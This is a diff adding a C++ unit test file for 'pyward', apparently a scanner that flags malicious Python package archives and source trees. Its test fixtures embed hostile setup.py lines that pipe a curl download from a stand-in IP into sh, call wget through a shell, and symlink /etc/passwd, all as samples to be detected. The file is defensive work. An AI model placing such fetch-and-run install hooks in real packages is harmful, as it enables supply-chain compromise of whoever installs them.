@@ -1,0 +1,110 @@
+#include "analysis/scanner.h"
+
+#include <gtest/gtest.h>
+
+#include <algorithm>
+#include <filesystem>
+#include <fstream>
+
+#include "support/test_archives.h"
+#include "util/file_util.h"
+
+namespace pyward {
+namespace {
+
+using testing::File;
+
+class ScannerTest : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    std::string data, err;
+    ASSERT_TRUE(ReadFile(PYWARD_SOURCE_DIR "/data/rules/install-exec.txt", 1 << 20, &data, &err));
+    ASSERT_TRUE(rules_.LoadFromData(data, &err)) << err;
+  }
+  bool Has(const ScanResult& r, const std::string& rule) {
+    return std::any_of(r.findings.begin(), r.findings.end(),
+                       [&](const Finding& f) { return f.rule == rule; });
+  }
+  RuleSet rules_;
+  Scanner scanner_{&rules_, {}};
+};
+
+TEST_F(ScannerTest, MaliciousSdist) {
+  std::string tgz = testing::MakeTar({
+      File("evil-0.1/PKG-INFO", "Name: evil\nVersion: 0.1\n"),
+      File("evil-0.1/setup.py",
+           "import os\nfrom setuptools import setup\n"
+           "os.system('curl -s http://203.0.113.9/x | sh')\nsetup(name='evil')\n"),
+  });
+  ScanResult r = scanner_.ScanBytes("evil-0.1.tar.gz", "evil-0.1.tar.gz", tgz);
+  EXPECT_EQ(r.verdict, Verdict::kMalicious);
+  EXPECT_EQ(r.package_name, "evil");
+  EXPECT_EQ(r.package_version, "0.1");
+  EXPECT_EQ(r.sha256.size(), 64u);
+  ASSERT_TRUE(Has(r, "install-exec"));
+  EXPECT_EQ(r.findings[0].file, "evil-0.1/setup.py");
+  EXPECT_EQ(r.findings[0].line, 3);
+}
+
+TEST_F(ScannerTest, CleanWheel) {
+  std::string whl = testing::MakeZip({File("ok/__init__.py", "import os\nos.system('x')\n"),
+                                      File("ok-1.0.dist-info/METADATA", "Name: ok\nVersion: 1.0\n")});
+  ScanResult r = scanner_.ScanBytes("ok-1.0-py3-none-any.whl", "ok-1.0-py3-none-any.whl", whl);
+  EXPECT_EQ(r.verdict, Verdict::kClean) << "import-time code is the detection engine's job";
+  EXPECT_FALSE(r.error.has_value());
+}
+
+TEST_F(ScannerTest, SetupInTestsFolderCountsLess) {
+  std::string tgz = testing::MakeTar({
+      File("p-1/tests/fixtures/setup.py", "import os\nos.system('curl http://x | sh')\n")});
+  ScanResult r = scanner_.ScanBytes("p-1.tar.gz", "p-1.tar.gz", tgz);
+  EXPECT_EQ(r.verdict, Verdict::kClean) << "not an install-time file";
+}
+
+TEST_F(ScannerTest, TruncatedArchiveIsAnErrorResult) {
+  std::string big;
+  for (int i = 0; i < 30000; ++i) big += std::to_string(i * 31337) + "\n";
+  std::string tgz = testing::MakeTar({File("p-1/setup.py", big)});
+  ScanResult r = scanner_.ScanBytes("p.tar.gz", "p.tar.gz", tgz.substr(0, tgz.size() / 3));
+  EXPECT_EQ(r.verdict, Verdict::kError);
+  ASSERT_TRUE(r.error.has_value());
+  EXPECT_NE(r.error->find("truncated"), std::string::npos) << *r.error;
+  EXPECT_EQ(r.sha256.size(), 64u);
+}
+
+TEST_F(ScannerTest, SingleFileAndBundledExecutable) {
+  ScanResult r = scanner_.ScanBytes("x/setup.py", "x/setup.py", "import os\nos.system('id')\n");
+  EXPECT_EQ(r.verdict, Verdict::kSuspicious);
+  std::string sh, err;
+  ASSERT_TRUE(ReadFile("/bin/true", 64 << 20, &sh, &err));
+  std::string tgz = testing::MakeTar({File("p-1/setup.py", ""), File("p-1/bin/helper", sh)});
+  ScanResult b = scanner_.ScanBytes("p-1.tar.gz", "p-1.tar.gz", tgz);
+  EXPECT_TRUE(Has(b, "bundled-executable"));
+  EXPECT_EQ(b.verdict, Verdict::kSuspicious);
+}
+
+TEST_F(ScannerTest, SourceTreeOnDisk) {
+  namespace fs = std::filesystem;
+  fs::path dir = fs::temp_directory_path() / ("pyward_tree_" + std::to_string(::getpid()));
+  fs::create_directories(dir / "pkg");
+  std::ofstream(dir / "setup.py") << "import subprocess\nsubprocess.call('wget http://x/y', shell=True)\n";
+  std::ofstream(dir / "pkg" / "__init__.py") << "";
+  fs::create_directories(dir / ".git");
+  std::ofstream(dir / ".git" / "setup.py") << "import os\nos.system('x')\n";
+  fs::create_symlink("/etc/passwd", dir / "pkg" / "link");
+  EXPECT_TRUE(IsSourceTree(dir.string()));
+  ScanResult r = scanner_.ScanPath(dir.string());
+  fs::remove_all(dir);
+  EXPECT_EQ(r.verdict, Verdict::kMalicious) << r.score;
+  EXPECT_TRUE(Has(r, "archive-link-outside"));
+  for (const Finding& f : r.findings) EXPECT_EQ(f.file.find(".git/"), std::string::npos);
+}
+
+TEST_F(ScannerTest, MissingPathIsAnError) {
+  ScanResult r = scanner_.ScanPath("/nonexistent/pyward/x.tar.gz");
+  EXPECT_EQ(r.verdict, Verdict::kError);
+  EXPECT_NE(r.error->find("no such file"), std::string::npos);
+}
+
+}  // namespace
+}  // namespace pyward
